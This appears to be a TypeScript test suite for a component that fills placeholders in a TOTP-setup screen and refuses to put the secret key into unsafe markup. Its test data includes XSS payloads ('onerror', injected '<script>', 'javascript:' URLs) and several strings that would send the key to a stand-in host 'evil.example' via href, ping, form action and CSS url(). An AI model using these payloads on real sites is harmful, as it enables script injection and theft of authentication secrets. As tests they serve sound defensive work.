import { expect } from 'chai';
import { FilledTemplate } from './filled-template.ts';
import type { PlaceholderValues } from './placeholders.ts';
import { captureConsole, clearStage } from '../testing/stage.ts';

const values: PlaceholderValues = {
  'totp.key': 'JBSWY3DPEHPK3PXP',
  'totp.provisionUrl': 'otpauth://totp/Example:ada?secret=JBSWY3DPEHPK3PXP',
  'totp.issuer': 'Example',
  'user.loginId': 'ada@example.com',
  'error.message': 'That code didn’t work.',
  'error.code': 'invalid_code',
  'retry.seconds': '30',
};

function fill(markup: string, changed: Partial<PlaceholderValues> = {}): HTMLElement {
  const template = document.createElement('template');
  template.innerHTML = markup;
  const filled = new FilledTemplate(template, 'totp-setup');
  filled.fill({ ...values, ...changed });
  document.body.append(filled.screen);
  return filled.screen;
}

/** An element of that place, wherever it is. */
function part(screen: HTMLElement, selector = '[id=it]'): Element {
  const found = screen.querySelector(selector);
  if (!found) throw new Error(`There is no ${selector}.`);
  return found;
}

const secret = 'JBSWY3DPEHPK3PXP';

const consoleLines = captureConsole();
beforeEach(() => consoleLines.splice(0));

describe('FilledTemplate', () => {
  afterEach(clearStage);

  for (const [name, value] of Object.entries(values)) {
    it(`writes {{${name}}} as text`, () => {
      expect(fill(`<p>Here: {{${name}}}, {{ ${name} }}.</p>`).textContent).to.equal(
        `Here: ${value ?? ''}, ${value ?? ''}.`,
      );
      expect(consoleLines).to.deep.equal([]);
    });
  }

  for (const name of ['alt', 'aria-description', 'aria-label', 'label', 'placeholder', 'title']) {
    it(`writes into the attribute ${name}`, () => {
      const screen = fill(`<p id="it" ${name}="For {{user.loginId}} at {{totp.issuer}}"></p>`);
      expect(part(screen).getAttribute(name)).to.equal('For ada@example.com at Example');
      expect(consoleLines).to.deep.equal([]);
    });
  }

  for (const tag of ['button', 'data', 'input', 'option']) {
    it(`writes into the value of <${tag}>`, () => {
      const markup = `<${tag} id="it" value="{{user.loginId}}">`;
      const screen = fill(tag === 'option' ? `<select>${markup}</select>` : markup);
      expect(part(screen).getAttribute('value')).to.equal('ada@example.com');
    });
  }

  it('writes a key into a field that no form sends', () => {
    const screen = fill('<input id="it" readonly value="{{totp.key}}">');
    expect(part(screen).getAttribute('value')).to.equal(secret);
  });

  it('links to the authenticator app', () => {
    const screen = fill('<a id="it" href="{{totp.provisionUrl}}">Open</a>');
    expect(part(screen).getAttribute('href')).to.equal(values['totp.provisionUrl']);
  });

  for (const url of [undefined, '', 'javascript:alert(1)', 'https://evil.example/']) {
    it(`links to nothing where the URL is ${url}`, () => {
      const screen = fill('<a id="it" href="{{totp.provisionUrl}}">Open</a>', {
        'totp.provisionUrl': url,
      });
      expect(part(screen).hasAttribute('href')).to.equal(false);
    });
  }

  it('writes nothing where there is no value', () => {
    const screen = fill('<p title="{{error.code}}">{{error.message}}</p>', {
      'error.code': undefined,
      'error.message': undefined,
    });
    expect(screen.innerHTML).to.equal('<p title=""></p>');
  });

  it('leaves other braces alone, and says which names there are', () => {
    const screen = fill('<p>{{totp.seed}} {{ user }} {totp.key}</p>');
    expect(screen.textContent).to.equal('{{totp.seed}} {{ user }} {totp.key}');
    expect(consoleLines).to.have.lengthOf(2);
    expect(consoleLines[0]).to.include('<totp-setup> knows no {{totp.seed}}.');
    for (const name of Object.keys(values)) expect(consoleLines[0]).to.include(name);
  });

  it('stands in the slot of its template', () => {
    const template = Object.assign(document.createElement('template'), { slot: 'done' });
    expect(new FilledTemplate(template, 'totp-setup').screen.slot).to.equal('done');
  });

  it('touches only what has changed', () => {
    const template = document.createElement('template');
    template.innerHTML = '<p>{{error.message}}</p><p>{{retry.seconds}}</p>';
    const filled = new FilledTemplate(template, 'totp-setup');
    filled.fill(values);
    const changes = new MutationObserver(() => {});
    changes.observe(filled.screen, { subtree: true, characterData: true });
    filled.fill({ ...values, 'retry.seconds': '29' });
    expect(changes.takeRecords().map(({ target }) => target.nodeValue)).to.deep.equal(['29']);
  });
});

describe('FilledTemplate with a value that wants to be more than text', () => {
  afterEach(clearStage);

  const hostile = [
    '<img src=x onerror="window.wasRun = true">',
    '"><script>window.wasRun = true</script>',
    '{{totp.key}}',
    '$& $1 $`',
    '<template><b>x</b></template>',
  ];
  for (const text of hostile) {
    it(`keeps ${text} as text`, () => {
      const screen = fill(
        '<p id="it" title="{{user.loginId}}">{{user.loginId}} at {{totp.issuer}}</p><input value="{{user.loginId}}">',
        { 'user.loginId': text, 'totp.issuer': text },
      );
      expect(part(screen).textContent).to.equal(`${text} at ${text}`);
      expect(part(screen).getAttribute('title')).to.equal(text);
      expect(part(screen, 'input').getAttribute('value')).to.equal(text);
      expect(screen.querySelectorAll('*')).to.have.lengthOf(2);
      expect('wasRun' in window).to.equal(false);
    });
  }
});

describe('FilledTemplate refuses a placeholder', () => {
  afterEach(clearStage);

  const k = '{{totp.key}}';
  const places: Record<string, string> = {
    '<script>': `<script type="text/plain">${k}</script>`,
    '<style>': `<style>p { content: "${k}" }</style>`,
    'the <style> of an SVG': `<svg><style>p { content: "${k}" }</style></svg>`,
    'the <script> of an SVG': `<svg><script type="text/plain">${k}</script></svg>`,
    onclick: `<p onclick="send('${k}')"></p>`,
    'an href of another URL': `<a href="https://evil.example/?${k}">x</a>`,
    'an href with more than the URL': `<a href="{{totp.provisionUrl}}#${k}">x</a>`,
    'an href of another placeholder': `<a href="${k}">x</a>`,
    'the href of a <link>': `<link rel="x-none" href="{{totp.provisionUrl}}">`,
    'the href of an <area>': `<map><area href="{{totp.provisionUrl}}"></map>`,
    'the href of a <base>': `<base href="{{totp.provisionUrl}}">`,
    ping: `<a ping="https://evil.example/?${k}">x</a>`,
    'the src of an <img>': `<img alt="" src="data:,${k}">`,
    srcset: `<img alt="" srcset="data:,${k} 1x">`,
    'the src of an <iframe>': `<iframe title="x" src="data:,${k}"></iframe>`,
    srcdoc: `<iframe title="x" srcdoc="<p>${k}</p>"></iframe>`,
    'the data of an <object>': `<object data="data:,${k}"></object>`,
    'the action of a <form>': `<form action="https://evil.example/${k}"></form>`,
    formaction: `<button formaction="https://evil.example/${k}">x</button>`,
    'data-*': `<p data-key="${k}"></p>`,
    id: `<p id="${k}"></p>`,
    name: `<input name="${k}">`,
    class: `<p class="${k}"></p>`,
    style: `<p style="background: url(https://evil.example/${k})"></p>`,
    part: `<p part="${k}"></p>`,
    'the content of a <meta>': `<meta name="x" content="${k}">`,
    'the value of a <param>': `<li value="${k}">x</li>`,
    'the value of a field that a form sends': `<form action="/"><input name="k" value="${k}"></form>`,
    'the value of a button that a form sends': `<button name="k" value="${k}">x</button>`,
    'the value of an option': `<select name="k"><option value="${k}">x</select>`,
    'the text of an option': `<select name="k"><option>${k}</select>`,
    'the text of a <textarea>': `<textarea name="k">${k}</textarea>`,
    'an SVG attribute': `<svg><text x="${k}">x</text></svg>`,
    'the title of an SVG element': `<svg><g aria-label="${k}"></g></svg>`,
    'the href of an SVG link': `<svg><a href="{{totp.provisionUrl}}"><text>x</text></a></svg>`,
    'xlink:href': `<svg><use xlink:href="${k}"></use></svg>`,
    'a MathML attribute': `<math><mi href="${k}">x</mi></math>`,
    'an attribute of <totp-verify>': `<x-element login-id="${k}"></x-element>`,
  };
  for (const [place, markup] of Object.entries(places)) {
    it(`in ${place}`, () => {
      const screen = fill(markup, { 'totp.provisionUrl': `otpauth://totp/x?secret=${secret}` });
      expect(document.documentElement.outerHTML).not.to.include(secret);
      expect(screen.innerHTML).not.to.include('{{');
      expect(consoleLines).to.have.lengthOf(1);
      const [line = ''] = consoleLines;
      expect(line).to.match(/^\[totp-kit\] <totp-setup> puts \{\{totp\.\w+\}\} into text/);
      expect(line).to.include('aria-label').and.to.include('href="{{totp.provisionUrl}}"');
      expect(line).to.match(/but not into (the attribute [\w:-]+ of <[\w-]+>|<\w+>)\.$/);
      expect(line).not.to.include(secret);
    });
  }

  it('and fills the rest all the same', () => {
    const screen = fill(`<p data-key="${k}">{{user.loginId}}</p>`);
    expect(screen.innerHTML).to.equal('<p>ada@example.com</p>');
  });
});
